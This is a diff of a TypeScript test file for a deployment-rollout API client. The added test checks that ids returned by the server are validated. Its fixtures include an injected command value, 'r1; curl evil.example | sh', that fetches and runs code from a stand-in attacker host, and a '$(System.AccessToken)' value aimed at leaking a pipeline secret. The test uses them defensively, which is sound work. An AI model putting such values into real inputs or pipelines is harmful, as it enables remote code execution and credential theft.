@@ -1,4 +1,5 @@
 import assert from "node:assert/strict";
+import { createServer, type RequestListener } from "node:http";
 import { Ev2Client } from "../../shared/ev2/client";
 import { Ev2Error, Ev2ProtocolError } from "../../shared/ev2/errors";
 import { staticToken } from "../../shared/ev2/auth";
@@ -20,6 +21,23 @@ function body(overrides: Partial<StartRolloutRequest> = {}): StartRolloutRequest
     tags: { "ado.buildId": "42" },
     ...overrides,
   };
+}
+
+/** A client of a loopback server answering with `handler`, for answers the simulator never gives. */
+async function withOddServer(
+  handler: RequestListener,
+  use: (odd: Ev2Client) => Promise<void>,
+): Promise<void> {
+  const server = createServer(handler);
+  await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
+  const { port } = server.address() as { port: number };
+  try {
+    await use(
+      new Ev2Client({ baseUrl: `http://127.0.0.1:${port}`, getToken: staticToken("t"), retry: fastRetry }),
+    );
+  } finally {
+    await new Promise<void>((ok) => server.close(() => ok()));
+  }
 }
 
 describe("Ev2Client against the simulator over HTTP", () => {
@@ -301,31 +319,79 @@ describe("Ev2Client against the simulator over HTTP", () => {
     });
 
     it("names the field and zod's own words when an answer breaks the contract", async () => {
-      const { createServer } = await import("node:http");
-      const server = createServer((_req, res) =>
-        res
-          .writeHead(200, { "content-type": "application/json" })
-          .end(JSON.stringify({ artifacts: [{ versionNumber: 7, status: "Active" }] })),
+      await withOddServer(
+        (_req, res) =>
+          res
+            .writeHead(200, { "content-type": "application/json" })
+            .end(JSON.stringify({ artifacts: [{ versionNumber: 7, status: "Active" }] })),
+        async (odd) => {
+          await assert.rejects(odd.listArtifactVersions(SG, SVC), (e: Ev2ProtocolError) => {
+            assert.ok(e instanceof Ev2ProtocolError);
+            assert.match(
+              e.message,
+              /artifacts\.0\.versionNumber: Invalid input: expected string, received number/,
+            );
+            return true;
+          });
+        },
       );
-      await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
-      const { port } = server.address() as { port: number };
-      try {
-        const odd = new Ev2Client({
-          baseUrl: `http://127.0.0.1:${port}`,
-          getToken: staticToken("t"),
-          retry: fastRetry,
+    });
+
+    it("refuses an id EV2 answers that is not an id (it would reach URLs and output variables)", async () => {
+      const bad = "r1; curl evil.example | sh";
+      const rollout = {
+        rolloutId: "r1",
+        serviceGroupName: SG,
+        serviceId: SVC,
+        environment: "PPE",
+        artifactVersionNumber: "1.3.2",
+        stageMapName: "OrdersStageMap",
+        stageMapVersion: "v3",
+        status: "Waiting",
+        stages: [],
+        waitActions: [{ actionId: "$(System.AccessToken)", stage: "Canary", status: "Waiting" }],
+        createdTimestamp: "2026-01-01T00:00:00Z",
+      };
+      const answers: Record<string, unknown> = {
+        "POST /serviceGroups/x/services/y/rollouts": { rolloutId: bad, status: "NotStarted" },
+        "GET /rollouts": {
+          rollouts: [
+            { rolloutId: "r2", status: "Completed" },
+            { rolloutId: bad, status: "Completed" },
+          ],
+        },
+        "GET /rollouts/r1": rollout,
+        "POST /rollouts/r1/cancel": { rolloutId: "", status: "Cancelled" },
+      };
+      const handler: RequestListener = (req, res) => {
+        const answer = answers[`${req.method} ${req.url!.split("?")[0]}`];
+        req.resume();
+        res.writeHead(answer ? (req.method === "POST" ? 201 : 200) : 404, {
+          "content-type": "application/json",
         });
-        await assert.rejects(odd.listArtifactVersions(SG, SVC), (e: Ev2ProtocolError) => {
-          assert.ok(e instanceof Ev2ProtocolError);
+        res.end(JSON.stringify(answer ?? { error: { code: "NotFound", message: "no" } }));
+      };
+      await withOddServer(handler, async (odd) => {
+        const refused = (where: string) => (e: Ev2ProtocolError) => {
+          assert.ok(e instanceof Ev2ProtocolError, String(e));
           assert.match(
             e.message,
-            /artifacts\.0\.versionNumber: Invalid input: expected string, received number/,
+            new RegExp(`${where}: not an EV2 id \\(letters, digits and \\. _ : -, at most 128\\)`),
+          );
+          assert.ok(
+            !e.message.includes("curl") && !e.message.includes("AccessToken"),
+            "the bad id is not echoed",
           );
           return true;
-        });
-      } finally {
-        await new Promise<void>((ok) => server.close(() => ok()));
-      }
+        };
+        await assert.rejects(odd.startRollout("x", "y", body(), "k"), refused("rolloutId"));
+        await assert.rejects(
+          odd.findRollouts({ tags: { "ado.buildId": "42" } }),
+          refused("rollouts\\.1\\.rolloutId"),
+        );
+        await assert.rejects(odd.getRollout("r1"), refused("waitActions\\.0\\.actionId"));
+        await assert.rejects(odd.cancelRollout("r1", "why"), refused("rolloutId"));
+      });
     });
 
     it("turns an HTML error page into a protocol error, not a stack trace", async () => {
